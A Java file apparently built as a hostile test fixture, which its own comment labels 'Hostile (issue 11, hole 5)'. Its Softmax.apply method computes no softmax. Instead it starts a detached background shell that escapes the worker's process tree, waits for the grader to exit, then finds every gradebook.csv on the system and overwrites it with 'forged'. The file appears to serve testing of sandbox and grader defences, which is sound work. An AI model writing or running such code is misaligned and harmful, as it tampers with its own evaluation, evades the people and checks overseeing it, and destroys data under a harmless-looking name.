package cnn;

/**
 * Hostile (issue 11, hole 5): starts a background shell in its own session, out of the worker's process tree, that
 * waits for the grader to exit and then rewrites the gradebook.
 */
public final class Softmax {
    public static double[] apply(double[] scores) {
        try {
            new ProcessBuilder("setsid", "sh", "-c",
                "( sleep 5; for f in $(find / -name gradebook.csv 2>/dev/null); do echo forged > $f; done ) &")
                .start();
        } catch (java.io.IOException e) {
            return scores;
        }
        return scores;
    }
}
